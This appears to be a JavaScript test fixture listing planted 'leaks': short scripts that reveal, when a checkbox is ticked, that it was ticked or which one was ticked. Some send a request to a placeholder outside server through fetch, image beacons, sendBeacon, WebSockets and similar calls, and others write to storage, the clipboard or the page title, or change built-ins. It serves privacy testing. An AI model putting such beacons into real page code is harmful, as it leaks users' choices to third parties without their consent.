/**
 * One leak or more for each channel, as somebody might write it without thinking, or with. Each is
 * done when a box on the page is ticked.
 *
 * The script is for the page: it is run with the ticked `box`, the `host` that it is in, and the
 * host's element `internals`. `{post}` is the address of somebody else's server, `{mark}` a word of
 * this leak's own.
 */
export const plantedLeaks = [
  // -- requests
  {channel: 'requests', name: 'a fetch', script: `fetch('{post}/{mark}', {mode: 'no-cors'})`},
  {
    channel: 'requests',
    name: 'a fetch from its own server',
    script: `fetch('/{mark}').catch(() => {})`,
  },
  {
    channel: 'requests',
    name: 'an XMLHttpRequest',
    script: `const x = new XMLHttpRequest(); x.open('POST', '{post}/{mark}'); x.send('1')`,
  },
  {
    channel: 'requests',
    name: 'a picture of one pixel',
    script: `new Image().src = '{post}/{mark}.gif'`,
  },
  {
    channel: 'requests',
    name: 'a picture in a style',
    script: `host.style.backgroundImage = 'url({post}/{mark}.png)'`,
  },
  {
    channel: 'requests',
    name: 'a font',
    script: `new FontFace('f', 'url({post}/{mark}.woff2)').load().catch(() => {})`,
  },
  {channel: 'requests', name: 'a module', script: `import('{post}/{mark}.js').catch(() => {})`},
  {
    channel: 'requests',
    name: 'a hint to fetch a page early',
    script: `const l = document.createElement('link'); l.rel = 'prefetch'; l.href = '{post}/{mark}'; document.head.append(l)`,
  },
  {
    channel: 'mutations',
    name: 'a hint to connect early',
    script: `const l = document.createElement('link'); l.rel = 'preconnect'; l.href = '{post}'; document.head.append(l)`,
  },
  {
    channel: 'requests',
    name: 'a frame',
    script: `const f = document.createElement('iframe'); f.src = '{post}/{mark}'; host.append(f)`,
  },
  {channel: 'beacons', name: 'a beacon', script: `navigator.sendBeacon('{post}/{mark}', '1')`},
  {
    channel: 'sockets',
    name: 'a WebSocket',
    script: `new WebSocket('{post}/{mark}'.replace('http', 'ws'))`,
  },
  {
    channel: 'sockets',
    name: 'a peer connection',
    script: `new RTCPeerConnection().createDataChannel('ticked')`,
  },
  {
    channel: 'event sources',
    name: 'an EventSource',
    script: `const source = new EventSource('{post}/{mark}'); setTimeout(() => source.close())`,
  },
  // -- what stays
  {channel: 'cookies', name: 'a cookie', script: `document.cookie = 'ticked=1'`},
  {
    channel: 'local storage',
    name: 'a key in local storage',
    script: `localStorage.setItem('ticked', '1')`,
  },
  {
    channel: 'local storage',
    name: 'a key that is written as a property',
    script: `localStorage.tickedToo = '1'`,
  },
  {
    channel: 'session storage',
    name: 'a key in session storage',
    script: `sessionStorage.setItem('ticked', '1')`,
  },
  {channel: 'databases', name: 'a database', script: `indexedDB.open('ticked')`},
  {channel: 'caches', name: 'a cache', script: `caches.open('ticked')`},
  {
    channel: 'service workers',
    name: 'a service worker',
    script: `navigator.serviceWorker.register('/ticked.js').catch(() => {})`,
  },
  {channel: 'workers', name: 'a worker', script: `new Worker('/ticked.js')`},
  {channel: 'workers', name: 'a shared worker', script: `new SharedWorker('/ticked.js')`},
  {
    channel: 'files',
    name: 'a file in the origin’s own file system',
    script: `navigator.storage.getDirectory().then((folder) => folder.getFileHandle('ticked', {create: true}))`,
  },
  {channel: 'files', name: 'a file to download', script: `URL.createObjectURL(new Blob(['1']))`},
  {
    channel: 'credentials',
    name: 'a stored password',
    script: `navigator.credentials.store(undefined).catch(() => {})`,
  },
  // -- where the visitor is
  {
    channel: 'history',
    name: 'one more entry in the history',
    script: `history.pushState(null, '')`,
  },
  {
    channel: 'history',
    name: 'a note on the entry in the history',
    script: `history.replaceState({ticked: 1}, '')`,
  },
  {channel: 'address', name: 'a hash in the address', script: `location.hash = 'ticked'`},
  {channel: 'title', name: 'another title', script: `document.title = 'Ticked'`},
  {
    channel: 'title',
    name: 'other words in the title',
    script: `document.querySelector('title').firstChild.data = 'Ticked too'`,
  },
  {channel: 'window name', name: 'a name for the window', script: `window.name = 'ticked'`},
  {
    channel: 'clipboard',
    name: 'words on the clipboard',
    script: `navigator.clipboard.writeText('ticked').catch(() => {})`,
  },
  {
    channel: 'clipboard',
    name: 'words on the clipboard, the old way',
    script: `document.execCommand('copy')`,
  },
  // -- what other scripts hear
  {channel: 'console', name: 'a line in the console', script: `console.log('ticked')`},
  {channel: 'console', name: 'a table in the console', script: `console.table([1])`},
  {
    channel: 'events',
    name: 'an event of its own',
    script: `host.dispatchEvent(new CustomEvent('ticked', {bubbles: true}))`,
  },
  {
    channel: 'events',
    name: 'an event that does not bubble',
    script: `host.dispatchEvent(new Event('ticked'))`,
  },
  {
    channel: 'events',
    name: 'an event out of a closed root',
    script: `box.dispatchEvent(new Event('ticked', {bubbles: true, composed: true}))`,
  },
  {
    channel: 'events',
    name: 'an event on the window',
    script: `window.dispatchEvent(new Event('ticked'))`,
  },
  {channel: 'mutations', name: 'an attribute', script: `host.setAttribute('data-ticked', '')`},
  {
    channel: 'mutations',
    name: 'a class on the page',
    script: `document.documentElement.classList.add('ticked')`,
  },
  {
    channel: 'mutations',
    name: 'a word on the page',
    script: `document.querySelector('p').append('ticked')`,
  },
  {
    channel: 'forms',
    name: 'a field in the host’s form',
    script: `document.querySelector('form').append(Object.assign(document.createElement('input'), {type: 'hidden', name: 'ticked'}))`,
  },
  {
    channel: 'forms',
    name: 'a value in the host’s form',
    script: `internals.setFormValue('ticked')`,
  },
  {channel: 'performance', name: 'a mark', script: `performance.mark('ticked')`},
  {channel: 'performance', name: 'a measure', script: `performance.measure('ticked')`},
  {
    channel: 'messages',
    name: 'a message to the window',
    script: `window.postMessage('ticked', '*')`,
  },
  {
    channel: 'messages',
    name: 'a channel to other tabs',
    script: `new BroadcastChannel('ticked').postMessage(1)`,
  },
  {
    channel: 'messages',
    name: 'a message to a port',
    script: `new MessageChannel().port1.postMessage(1)`,
  },
  {channel: 'locks', name: 'a lock', script: `navigator.locks.request('ticked', () => {})`},
  {channel: 'windows', name: 'a new window', script: `window.open('about:blank')`},
  {channel: 'globals', name: 'a global', script: `window.ticked = 1`},
  {
    channel: 'built-ins',
    name: 'a built-in that was changed',
    script: `Array.prototype.at = function () {}`,
  },
  {
    channel: 'built-ins',
    name: 'a built-in that was added',
    script: `Object.defineProperty(String.prototype, 'ticked', {value: 1})`,
  },
  {
    channel: 'styles',
    name: 'a custom property for the whole page',
    script: `CSS.registerProperty({name: '--ticked', syntax: '*', inherits: true})`,
  },
  {
    channel: 'events',
    name: 'a link in a closed root that is followed',
    script: `const link = Object.assign(document.createElement('a'), {href: '#ticked'}); box.after(link); link.click()`,
    says: 'as sourceElement',
  },
  {
    channel: 'autofill',
    name: 'a control that the browser fills in',
    script: `box.removeAttribute('autocomplete')`,
    says: 'without',
  },
  {
    channel: 'autofill',
    name: 'a control with a name',
    script: `box.name = 'ticked'`,
    says: 'the name ticked',
  },
  {
    channel: 'autofill',
    name: 'a field to type into',
    script: `box.type = 'text'`,
    says: 'typed into',
  },
];

/**
 * Ways to let another script on the page see *what* was ticked, and not only that something was.
 * Each is run when a box is ticked; `id` is that of the box. A nosy page's view of two visits must
 * differ.
 */
export const plantedViews = [
  {name: 'an attribute', script: `host.setAttribute('ticked', id)`},
  {name: 'a property', script: `host.ticked = id`},
  {name: 'a property with a symbol for a name', script: `host[Symbol('ticked')] = id`},
  {name: 'a list behind a property', script: `(host.list ??= []).push(id)`},
  {
    name: 'the detail of an event',
    script: `window.dispatchEvent(Object.assign(new Event('input'), {data: id}))`,
  },
  {
    name: 'one event more for a danger sign',
    script: `if (id === 'two') window.dispatchEvent(new Event('change'))`,
  },
  {name: 'a custom state', script: `internals.states.add('ticked-' + id)`},
  {name: 'a spoken name', script: `host.ariaLabel = id`},
  {name: 'a role that nobody sees', script: `internals.ariaDescription = id`},
  {name: 'a part', script: `host.part.add(id)`},
  {name: 'a word in the open', script: `host.append(id)`},
  {name: 'the value of a form', script: `internals.setFormValue(id)`},
  {
    name: 'the selection',
    script: `getSelection().selectAllChildren(document.querySelector('#say-' + id))`,
  },
  {name: 'the focus', script: `document.querySelector('#for-' + id).focus()`},
  {name: 'a custom property', script: `host.style.setProperty('--ticked', id)`},
  {name: 'the title', script: `document.title = id`},
  {name: 'a mark', script: `performance.mark(id)`},
];
